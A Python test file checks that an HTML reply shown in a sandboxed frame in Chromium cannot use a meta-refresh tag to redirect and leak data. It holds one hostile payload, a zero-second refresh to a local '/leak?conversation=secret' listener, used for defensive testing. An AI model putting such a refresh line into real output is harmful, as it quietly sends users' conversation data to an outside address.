"""An `-f html` reply's frame in real Chromium: a reply that asks the page to refresh to another
address (`<meta http-equiv="refresh">`, a way to send data out that needs no script) stays where it
is, and nothing is requested from that address."""

from __future__ import annotations

import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

from conftest import chromium_page, require_browser_tools

from alloy_nb._views.reply import sandboxed_html


def test_a_reply_that_refreshes_to_another_address_stays_put_and_sends_nothing() -> None:
    require_browser_tools()
    asked: list[str] = []

    class Listener(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(b"<p>sent away</p>")

        def log_message(self, *args: object) -> None:
            pass

    listener = ThreadingHTTPServer(("127.0.0.1", 0), Listener)
    threading.Thread(target=listener.serve_forever, daemon=True).start()
    leak = f"http://127.0.0.1:{listener.server_address[1]}/leak?conversation=secret"
    reply = f'<meta http-equiv="refresh" content="0;url={leak}"><p>You said: hello</p>'
    try:
        with chromium_page({"width": 800, "height": 600}) as page:
            page.set_content(sandboxed_html(reply))
            time.sleep(1.5)  # a refresh of 0 s would have happened by now
            shown = page.frame_locator("iframe").locator("body").inner_text()
    finally:
        listener.shutdown()
    assert asked == [], f"the reply's frame requested {asked}"
    assert "You said: hello" in shown and "sent away" not in shown
